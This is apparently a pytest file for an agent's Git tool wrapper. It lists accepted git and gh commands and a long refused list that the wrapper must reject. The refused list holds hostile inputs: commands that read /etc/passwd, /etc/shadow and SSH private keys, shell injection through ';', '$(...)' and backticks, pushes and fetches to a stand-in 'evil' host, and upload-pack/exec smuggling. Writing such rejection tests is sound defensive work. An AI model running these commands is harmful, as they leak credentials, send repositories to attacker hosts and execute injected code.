"""Which command lines the tool Git takes. The refused ones are read and never run."""

from __future__ import annotations

import pytest

from lyra.errors import ToolError
from lyra.tools.git.calls import read_call
from tests.cases import each

TAKEN = [
    "commit -m 'Fix the total'",
    "git commit -am 'Fix; the (total) | of it'",
    "commit --amend --no-edit",
    "commit -m '- a list'",
    "add -A",
    "add src/a.py -- 'odd name'",
    "switch -c feature",
    "checkout -b feature origin/main",
    "checkout -- src/a.py",
    "restore --staged src/a.py",
    "reset --hard HEAD~1",
    "stash push -m wip -- src",
    "stash pop",
    "tag -a v1.0 -m 'version 1'",
    "rebase --onto main old feature",
    "rebase -i --autosquash HEAD~3",
    "merge --no-ff feature -m merged",
    "cherry-pick -x abc",
    "revert --no-edit HEAD",
    "push origin main --force-with-lease",
    "pull --rebase origin main",
    "fetch --prune",
    "gh pr create --title x --body 'y z'",
    "status --short",
    "branch -d old",
]

REFUSED = [
    "-c alias.x='!rm y' x",
    "-C /elsewhere commit -m x",
    "--git-dir=/elsewhere commit -m x",
    "--exec-path=/tmp/evil commit -m x",
    "commit -F /etc/passwd",
    "commit --file=/etc/passwd",
    "commit -m x -F ~/.ssh/id_rsa",
    "commit -t /etc/passwd",
    "commit --template=/etc/passwd",
    "commit -S -m x",
    "commit --gpg-sign=evil -m x",
    "commit --pathspec-from-file=/etc/passwd",
    "commit -amF /etc/passwd -F /etc/shadow",
    "add -p",
    "add -e",
    "add --pathspec-from-file=/etc/passwd",
    "branch -u origin/main",
    "branch --set-upstream-to=origin/main",
    "branch --edit-description",
    "branch -m new",
    "switch --recurse-submodules main",
    "checkout --recurse-submodules main",
    "checkout -p",
    "rebase -x 'rm y' main",
    "rebase --exec 'rm y' main",
    "rebase --ex 'rm y' main",
    "rebase -ix 'rm y' main",
    "merge -s /tmp/evil other",
    "merge --strategy=evil other",
    "merge -S other",
    "merge -F /etc/passwd other",
    "tag -s v1 -m x",
    "tag -F /etc/passwd v1",
    "config core.hooksPath evil",
    "config --global core.editor evil",
    "remote add evil https://evil",
    "remote set-url origin https://evil",
    "submodule update --init",
    "submodule foreach 'rm y'",
    "worktree add ../elsewhere",
    "clone https://evil x",
    "init .",
    "init --template=/tmp/evil",
    "filter-branch --tree-filter 'rm y'",
    "bisect run rm y",
    "difftool -x rm",
    "mergetool",
    "am patch",
    "apply --unsafe-paths patch",
    "update-index --cacheinfo 100644,abc,.vscode/tasks.json",
    "update-ref refs/heads/main abc",
    "hash-object -w /etc/passwd",
    "read-tree --index-output=/tmp/x HEAD",
    "write-tree",
    "fast-import",
    "hook run pre-commit",
    "maintenance start",
    "send-email x",
    "daemon",
    "gc",
    "clean -fdx",
    "diff --no-index /etc/passwd /etc/shadow",
    "diff /etc/passwd /etc/shadow",
    "log --output=/tmp/x",
    "show HEAD:a.py --output=/tmp/x",
    "grep -O'rm y' x",
    "blame --contents /etc/passwd a.py",
    "archive -o /tmp/x HEAD",
    "bundle create /tmp/x HEAD",
    "push https://evil main",
    "push git@evil:x main",
    "push ext::evil main",
    "push ../elsewhere main",
    "push /elsewhere main",
    "push --receive-pack='rm y' origin main",
    "push --exec='rm y' origin",
    "push -u origin main",
    "push --repo=https://evil",
    "push --signed origin main",
    "push -o ci.skip origin",
    "fetch --upload-pack='rm y' origin",
    "fetch https://evil",
    "fetch ext::evil",
    "fetch --recurse-submodules",
    "pull --rebase=interactive origin",
    "pull https://evil main",
    "pull --upload-pack evil origin",
    "stash create",
    "stash store abc",
    "commit -m x; rm y",
    "commit -m x && rm y",
    "commit -m x | sh",
    'commit -m "$(rm y)"',
    "commit -m `rm y`",
    "commit -m x > /tmp/y",
    "GIT_SSH_COMMAND=evil git push origin",
    "commit -m $HOME",
    "status; rm y",
    "gh api /user",
    "gh alias set x '!rm y'",
    "gh auth token",
    "gh extension install evil/x",
    "gh pr create -F /etc/passwd",
    "gh pr create --body-file=/etc/passwd",
    "gh pr create --web",
    "gh pr checkout 1",
    "gh repo clone evil/x",
    "gh run download 1",
    "gh codespace ssh",
    "",
    "commit\x00-m x",
]


@each(TAKEN)
def test_the_usual_calls_are_taken(command: str) -> None:
    assert read_call(command).words[0] in ("git", "gh")


@each(REFUSED)
def test_what_reaches_further_is_refused(command: str) -> None:
    """Other files, programs, settings, addresses, other repositories, and a person at a terminal."""
    with pytest.raises(ToolError) as refused:
        read_call(command)
    assert refused.value.reason == "invalid_arguments"


def test_what_a_call_does_is_known() -> None:
    """Whether it reaches a network, only reads, or changes the working tree."""
    assert read_call("push origin main").network
    assert read_call("gh pr list").network
    assert read_call("status").reads
    assert read_call("branch -a").reads
    assert not read_call("branch new").reads
    assert read_call("switch main").checks_out
    assert not read_call("commit -m x").checks_out
    assert "main" in read_call("restore --source=main a").revisions
